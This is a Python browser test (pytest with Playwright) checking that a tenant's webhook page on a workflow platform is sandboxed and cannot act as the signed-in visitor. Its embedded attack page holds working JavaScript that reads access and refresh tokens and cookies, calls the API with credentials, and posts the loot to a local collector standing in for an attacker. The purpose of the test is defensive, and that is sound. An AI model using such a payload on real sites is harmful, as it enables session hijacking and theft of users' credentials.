"""Issue #11 part 3 in a real browser: a tenant's webhook page cannot act as the signed-in visitor.

An attacker team's workflow answers its webhook with HTML whose script tries to read the
visitor's tokens (localStorage lf_access / lf_refresh) and cookies, calls the API with
``credentials: "include"`` and posts what it got to a collector; the answer also sets
Reflex's ``backend-enabled`` cookie. The signed-in victim opens the link. Served from
LinkFlow's own origin, the page is sandboxed (an opaque origin, no script), so nothing
reaches the collector but the plain image that proves the page rendered, and the victim's
session, storage and cookies are what they were.
"""

from __future__ import annotations

import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import new_account
from playwright.sync_api import Page, expect

ATTACK = """<!doctype html><title>Your invoice</title>
<p>Loading your invoice…</p>
<img src="{collector}/rendered">
<script>
  const loot = {{}};
  try {{ loot.access = localStorage.getItem("lf_access"); loot.refresh = localStorage.getItem("lf_refresh"); }}
  catch (e) {{ loot.storage = String(e); }}
  try {{ loot.cookie = document.cookie; }} catch (e) {{ loot.cookie_error = String(e); }}
  try {{ localStorage.setItem("lf_access", "planted-by-attacker"); }} catch (e) {{}}
  const auth = loot.access ? {{Authorization: "Bearer " + loot.access}} : {{}};
  fetch("/api/v1/auth/me", {{credentials: "include", headers: auth}})
    .then(r => r.text()).then(t => {{ loot.me = t; }}, e => {{ loot.me_error = String(e); }})
    .finally(() => fetch("{collector}/loot", {{method: "POST", mode: "no-cors", body: JSON.stringify(loot)}}));
</script>"""


class Collector:
    """The attacker's server: records every request (path, body) it gets."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str]] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                collector.seen.append((self.path, self.rfile.read(length).decode(errors="replace")))
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = _record  # noqa: N815 - the http.server API

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def paths(self) -> list[str]:
        return [path for path, _ in self.seen]


@pytest.fixture
def collector():
    server = Collector()
    yield server
    server.server.shutdown()
    server.server.server_close()


@pytest.fixture
def attack_url(base_url, collector):
    """The attacker team's active webhook answering with the page above; its URL."""
    attacker = new_account(base_url, name="Mallory")
    path = f"invoice-{uuid.uuid4().hex}"
    definition = {"nodes": [
        {"id": "h", "name": "Webhook", "type": "webhook", "position": [0, 0],
         "parameters": {"path": path, "method": "GET", "respond": "respond_node"}},
        {"id": "r", "name": "Answer", "type": "respond_to_webhook", "position": [200, 0],
         "parameters": {"body_type": "text", "body": ATTACK.format(collector=collector.url),
                        "headers": {"Content-Type": "text/html; charset=utf-8",
                                    "Set-Cookie": "backend-enabled=false; Path=/"}}}],
        "connections": [{"from": "h", "to": "r"}]}
    workflow = attacker.api.post("/workflows", json={"name": "Invoice", "definition": definition}).json()
    assert attacker.api.post(f"/workflows/{workflow['id']}/activate").status_code == 200
    yield f"{base_url}/webhook/{path}"
    attacker.api.close()


def storage(page: Page) -> dict:
    return page.evaluate("() => ({access: localStorage.getItem('lf_access'), "
                         "refresh: localStorage.getItem('lf_refresh'), team: localStorage.getItem('lf_team')})")


def test_a_webhook_page_cannot_read_or_use_the_visitors_session(signed_in_page: Page, base_url, account,
                                                                 collector, attack_url):
    page = signed_in_page
    before, cookies_before = storage(page), page.context.cookies()
    assert before["access"] == account.tokens["access_token"]

    answer = page.goto(attack_url)
    assert answer is not None and answer.status == 200
    assert answer.headers["content-security-policy"] == "sandbox"
    assert answer.headers["x-content-type-options"] == "nosniff"
    expect(page.get_by_text("Loading your invoice")).to_be_visible()
    deadline = time.monotonic() + 10
    while "/rendered" not in collector.paths():  # the collector is reachable: an image got there
        assert time.monotonic() < deadline, "the page never loaded its image"
        time.sleep(0.1)
    time.sleep(2)  # what the script would have sent has had time to arrive
    assert collector.paths() == ["/rendered"], f"the page's script sent: {collector.seen}"
    # The document's origin is opaque: the app's storage and cookies are out of its reach.
    assert page.evaluate("() => window.origin") == "null"
    for probe in ("localStorage.getItem('lf_access')", "document.cookie"):
        error = page.evaluate(f"() => {{ try {{ {probe}; return 'readable'; }} catch (e) {{ return e.name; }} }}")
        assert error == "SecurityError", probe

    page.goto(base_url + "/workflows")
    page.get_by_role("button", name="New workflow").wait_for()  # still signed in, the UI still talks to its backend
    assert storage(page) == before
    assert page.context.cookies() == cookies_before  # no backend-enabled=false, nothing else planted
    assert account.api.get("/auth/me").status_code == 200
